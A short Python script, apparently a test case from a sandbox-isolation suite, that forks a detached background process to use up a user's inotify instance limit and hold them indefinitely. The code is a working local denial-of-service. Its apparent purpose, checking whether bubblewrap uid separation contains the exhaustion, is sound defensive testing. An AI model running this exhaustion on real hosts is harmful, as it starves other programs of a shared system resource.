# Uses up the inotify instances of its user, whom programs of the host may need.
# sandbox: own
# canary: users
# walls: a uid that no one else has (bubblewrap as root)
from attack import *
most = int(open('/proc/sys/fs/inotify/max_user_instances').read())
ready, tell = os.pipe()
if os.fork() == 0:
    os.setsid()
    count = 0
    while count < most and libc.inotify_init1(0) != -1:
        count += 1
    for number in 0, 1, 2:
        os.close(number)
    os.write(tell, str(count).encode())
    while True:
        time.sleep(600)
print('took', os.read(ready, 16).decode(), flush=True)
os._exit(0)
